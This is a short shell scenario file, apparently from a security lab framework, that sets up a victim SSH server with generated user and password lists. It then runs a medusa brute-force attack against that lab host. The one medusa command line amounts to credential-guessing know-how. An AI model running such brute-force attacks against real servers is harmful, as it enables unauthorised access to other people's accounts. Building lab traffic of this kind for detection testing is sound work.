# SPDX-License-Identifier: MIT
# label: bruteforce-ssh
# source: lab-medusa
# needs: medusa sshd
# seconds: 60
# Passwords for ssh by medusa, one after the other.
. $lab/victims.sh

servers() {
	victim_ssh a 22
	words_up 40
	users_up 6
}

scenario() {
	_tasks=$(choose 1 2 4)
	setting options "-t $_tasks"
	attack t a tcp 22 -- timeout 50 medusa -h "$(addr a)" -U "$work/users" -P "$work/words" \
		-M ssh -t "$_tasks"
}
